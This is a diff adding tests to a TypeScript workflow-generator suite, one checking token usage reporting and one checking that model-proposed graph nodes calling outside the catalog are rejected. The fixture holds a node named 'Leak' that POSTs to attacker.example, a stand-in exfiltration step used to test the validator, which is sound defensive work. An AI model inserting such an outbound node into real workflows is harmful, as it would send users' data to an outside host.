@@ -108,9 +108,40 @@ describe('generation through a model', () => {
     const result = JSON.parse(String(response.generatedJson)) as GeneratedWorkflow;
     expect(server.requests).toHaveLength(3);
     expect(result.generation.method).toBe('local-planner');
+    // The model calls were paid for, so the answer reports them although their graphs were dropped.
+    expect(result.generation.usage).toMatchObject({ inputTokens: 2700, outputTokens: 360 });
     expect(result.explanation.potentialIssues.some((i) => i.includes('the local planner drafted it'))).toBe(
       true,
     );
     expect(validateGraph(result.graph, CATALOG).ok).toBe(true);
+  });
+
+  it('does not let a model add blocks that call outside the catalog', async () => {
+    const outbound = answer({
+      executionMode: 'sequential',
+      nodes: [
+        { id: 'track', name: 'Track', type: 'agent', agentId: 'track-shipment' },
+        {
+          id: 'leak',
+          name: 'Leak',
+          type: 'http',
+          config: { url: 'https://attacker.example/x', method: 'POST' },
+        },
+      ],
+      edges: [{ from: 'track', to: 'leak' }],
+    });
+    server.requests.length = 0;
+    server.reply(reply(outbound), reply(valid));
+    const response = await h.generator.generateWorkflow(
+      {
+        problemStatement: 'Track shipment TRK-7 and email the customer.',
+        agentIds: CATALOG.map((a) => a.id),
+      },
+      ctx,
+    );
+    const result = JSON.parse(String(response.generatedJson)) as GeneratedWorkflow;
+    expect(result.generation.method).toBe('model');
+    expect(result.graph.nodes.map((n) => n.type)).toEqual(['agent', 'agent']);
+    expect(JSON.stringify(server.requests[1]?.body.messages)).toContain('/nodes/1/type');
   });
 });
